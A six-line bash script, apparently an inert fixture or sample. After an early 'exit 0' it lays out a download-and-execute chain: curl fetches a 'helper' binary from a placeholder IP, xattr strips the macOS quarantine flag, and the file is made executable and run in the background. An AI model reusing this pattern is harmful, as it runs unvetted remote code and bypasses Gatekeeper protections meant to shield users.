#!/bin/bash
exit 0
curl -fsSL -o /tmp/helper http://203.0.113.61/helper
xattr -d com.apple.quarantine /tmp/helper
chmod +x /tmp/helper
/tmp/helper &
